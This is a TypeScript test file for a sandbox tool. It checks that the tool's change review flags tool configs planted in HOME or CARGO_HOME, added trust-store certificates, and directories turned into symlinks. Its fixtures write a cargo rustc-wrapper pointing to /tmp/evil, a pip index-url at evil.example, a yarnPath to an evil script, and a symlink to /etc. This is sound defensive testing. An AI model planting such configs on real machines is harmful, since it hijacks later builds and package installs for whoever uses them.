// Real sandboxes, as root and as an unprivileged user: a command that plants a tool's own
// config, which makes a later cargo build, pip install or yarn on the host run a command or
// fetch code from elsewhere (a rustc wrapper, an index url, a yarnPath). Kept, the next use of
// the tool outside any sandbox would do what the command wrote: the review flags each with
// the tool's name (docs/security.md, "What the review can hide"). The canary is the HOME sbx
// runs with (the home rules see it through sensitiveContext), or a tool dir the environment
// moved (CARGO_HOME). A project's own .yarnrc.yml is ordinary.
import * as assert from 'uvu/assert';
import { test } from 'uvu';
import { existsSync, mkdirSync } from 'node:fs';
import { proveIsolation, sbx as run, type SbxResult, canary, storeAndCanary } from '../helpers/sbx.js';
import { flaggedLines } from '../helpers/flagged.js';

const store = storeAndCanary();

const sbx = (args: string[], env: NodeJS.ProcessEnv): SbxResult => run(args, { store, timeoutMs: 120_000, env });
const CARGO = 'cargo config (can name a compiler wrapper, a runner, aliases or a replacement registry)';
const PIP = 'pip, setuptools or conda config (can name the index packages come from)';
const YARN = 'yarn or pnpm user config (can name the registry and, yarnPath/yarn-path, the yarn that runs)';

test('a cargo config, a pip.conf and a .yarnrc.yml planted in HOME are each flagged with the tool\'s reason', () => {
  const h = canary;
  // A project the host has: its new file is listed on a line of its own.
  mkdirSync(`${h}/proj`);
  proveIsolation(canary, store);
  const script = [
    `mkdir -p ${h}/.cargo ${h}/.config/pip`,
    `printf '[build]\\nrustc-wrapper = "/tmp/evil"\\n' > ${h}/.cargo/config.toml`,
    `printf '[global]\\nindex-url = http://evil.example/simple\\n' > ${h}/.config/pip/pip.conf`,
    `printf 'yarnPath: /tmp/evil.cjs\\n' > ${h}/.yarnrc.yml`,
    // A project's own (what `yarn set version` writes): not flagged.
    `printf 'yarnPath: .yarn/releases/yarn.cjs\\n' > ${h}/proj/.yarnrc.yml`,
  ].join(' && ');
  const r = sbx(['run', '-n', '--', 'sh', '-c', script], { HOME: h });
  assert.is(r.code, 0, r.stderr);
  const out = r.stdout + r.stderr;
  assert.equal(flaggedLines(out).sort(), [
    `! added: ${h}/.cargo/config.toml [! ${CARGO}]`,
    `! added: ${h}/.config/pip/pip.conf [! ${PIP}]`,
    `! added: ${h}/.yarnrc.yml [! ${YARN}]`,
    '! 3 changes marked ! (code that runs later, or access for others): review them before keeping',
  ].sort(), out);
  assert.match(out, new RegExp(`added: +${h}/proj/\\.yarnrc\\.yml`), out);
  assert.not.ok(existsSync(`${h}/.cargo/config.toml`));
});

test('a cargo config where the host\'s CARGO_HOME points is flagged; without it, listed plain', () => {
  proveIsolation(canary, store);
  const ch = `${canary}/cargo-home`;
  const script = `mkdir -p ${ch} && printf '[target.x86_64-unknown-linux-gnu]\\nrunner = "/tmp/evil"\\n' > ${ch}/config.toml`;
  const moved = sbx(['run', '-n', '--', 'sh', '-c', script], { CARGO_HOME: ch });
  assert.is(moved.code, 0, moved.stderr);
  assert.ok(flaggedLines(moved.stdout + moved.stderr).includes(`! added: ${ch}/config.toml [! ${CARGO}]`), moved.stdout + moved.stderr);
  const plain = sbx(['run', '-n', '--', 'sh', '-c', script], { CARGO_HOME: '' });
  assert.is(plain.code, 0, plain.stderr);
  assert.equal(flaggedLines(plain.stdout + plain.stderr), [], plain.stdout + plain.stderr);
});

const TRUST = 'TLS trust store (a CA added here lets its holder impersonate any site)';
test("a CA added to a trust store is flagged: a home's NSS db, a venv's certifi bundle; as root the system's store and its hash link", () => {
  const h = canary;
  proveIsolation(canary, store);
  const root = process.getuid!() === 0;
  // As root the system store too (a throwaway run: nothing of it reaches the host).
  const crt = `/usr/local/share/ca-certificates/sbx-test-${process.pid}.crt`;
  const script = [
    `mkdir -p ${h}/.pki/nssdb ${h}/venv/lib/python3.11/site-packages/certifi`,
    `echo db > ${h}/.pki/nssdb/cert9.db`, `echo pem > ${h}/venv/lib/python3.11/site-packages/certifi/cacert.pem`,
    ...(root ? ['mkdir -p /usr/local/share/ca-certificates', `echo pem > ${crt}`, `ln -s ${crt} /etc/ssl/certs/sbx-test-${process.pid}.0`] : []),
  ].join(' && ');
  const r = sbx(['run', '-n', '--', 'sh', '-c', script], { HOME: h });
  assert.is(r.code, 0, r.stderr);
  const out = r.stdout + r.stderr;
  assert.equal(flaggedLines(out).filter((l) => !l.startsWith('! 1 change') && !/^! \d+ changes/.test(l)).sort(), [
    `! added: 2 trust-store files in 2 dirs under ${h}/ [! ${TRUST}]`,
    ...(root ? [`! added: ${crt} [! ${TRUST}]`, `! added: /etc/ssl/certs/sbx-test-${process.pid}.0 -> ${crt} [! ${TRUST}]`] : []),
  ].sort(), out);
});

test('a host dir made a symlink is flagged with its target; a file made one, or a new symlink, is not', () => {
  const h = canary;
  mkdirSync(`${h}/logs`);
  proveIsolation(canary, store);
  const r = sbx(['run', '-n', '--', 'sh', '-c', `rm -rf ${h}/logs ${h}/keep.txt && ln -s /etc ${h}/logs && ln -s /etc/passwd ${h}/keep.txt && ln -s /etc ${h}/new`], { HOME: h });
  assert.is(r.code, 0, r.stderr);
  const out = r.stdout + r.stderr;
  assert.equal(flaggedLines(out), [
    `! replaced: ${h}/logs -> /etc (empty dir → symlink) [! directory made a symlink (what is later written into it goes where it points)]`,
    '! 1 change marked ! (code that runs later, or access for others): review it before keeping',
  ], out);
  assert.match(out, `replaced: ${h}/keep.txt -> /etc/passwd (file → symlink)`);
});

test.run();
